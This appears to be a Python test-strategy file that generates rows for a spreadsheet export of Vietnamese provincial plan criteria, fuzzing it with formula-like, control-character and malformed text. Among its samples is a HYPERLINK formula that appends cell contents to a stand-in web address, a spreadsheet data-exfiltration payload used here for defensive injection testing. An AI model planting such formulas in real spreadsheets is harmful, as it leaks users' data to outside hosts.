"""Rows of every kind with any words in them, among them those that a spreadsheet would take for a formula."""

from __future__ import annotations

from datetime import date
from types import NoneType, UnionType
from typing import Any, Union, get_args, get_origin

from hypothesis import strategies as st
from hypothesis.strategies import SearchStrategy

from models.base import Frozen
from models.records import Audience, Level, Round
from pipeline.export.table import ROWS, Kind
from pipeline.store.rows import CriterionRow

FORMULAS = (
    '=HYPERLINK("http://example.org/?"&A1,"x")',
    "=1+1",
    "+ Thực hiện đúng quy định",
    "- Tập thể đạt 80% trở lên",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u3000=1+1",
    "＝1+1",
    "'=1+1",
    "''",
    "https://example.org/x",
    "mailto:a@example.org",
    "007",
    "1e5",
    "TRUE",
    "<r>x</r>",
    "<r><t>&</r>",
    "_x000D_",
    "\x00\x0b\x1f\x7f\x85\u2028\ufffe\uffff",
    'a","b',
    "a\r\nb\rc\nd",
    " đầu và cuối ",
    "",
    "\ufeffabc",
    "\\N",
    "null",
)
CONTROLS = "\x00\x01\t\n\x0b\x0c\r\x1b\x1f\x7f\x85\u2028\ufeff\ufffe\uffff\",;'=+-@<>&_x0D[]{} đĐưẠ𝄞"

texts = st.one_of(
    st.text(max_size=40),
    st.text(alphabet=CONTROLS, max_size=20),
    st.sampled_from(FORMULAS),
    st.builds(str.__add__, st.sampled_from(FORMULAS), st.text(max_size=10)),
)

LEAVES: dict[type, SearchStrategy[Any]] = {
    str: texts,
    int: st.integers(-(2**63), 2**63 - 1),
    float: st.floats(allow_nan=False, allow_infinity=False),
    date: st.dates(),
}


def anything(annotation: Any) -> SearchStrategy[Any]:
    """Values of a field: hypothesis knows the words of enumerations by itself."""
    origin, args = get_origin(annotation), get_args(annotation)
    if origin in (Union, UnionType):
        return st.one_of(*(st.none() if a is NoneType else anything(a) for a in args))
    if origin is tuple:
        return st.lists(anything(args[0]), max_size=3).map(tuple)
    if origin is dict:
        return st.dictionaries(anything(args[0]), anything(args[1]), max_size=3)
    return LEAVES[annotation] if annotation in LEAVES else st.from_type(annotation)


def rows_of(row_class: type[Frozen]) -> SearchStrategy[Frozen]:
    fields = {name: anything(field.annotation) for name, field in row_class.model_fields.items()}
    return st.builds(row_class, **fields)


def tables_with_rows() -> SearchStrategy[tuple[Kind, list[Frozen]]]:
    return st.one_of(*(st.tuples(st.just(k), st.lists(rows_of(r), max_size=4)) for k, r in ROWS.items()))


def criterion(text: str = "- Tập thể có tối thiểu 80% cá nhân đạt danh hiệu", **changed: Any) -> CriterionRow:
    said: dict[str, Any] = {
        "plan_id": "ca-mau-2019-108-kh-ubnd",
        "version": 1,
        "plan_symbol": "108/KH-UBND",
        "plan_unit": "tỉnh Cà Mau",
        "plan_issued": date(2019, 8, 19),
        "id": "bab464f4bab464f4",
        "path": "V/1/a/-1/+2",
        "page": 3,
        "text": text,
        "quote": text,
        "rule": "criterion.leaf",
        "confidence": 0.93,
        "audience": Audience.COLLECTIVE,
        "levels": (Level.PROVINCE, Level.DISTRICT),
        "rounds": (Round.PRELIMINARY,),
        "group": None,
        "quantities": (),
    }
    return CriterionRow(**(said | changed))
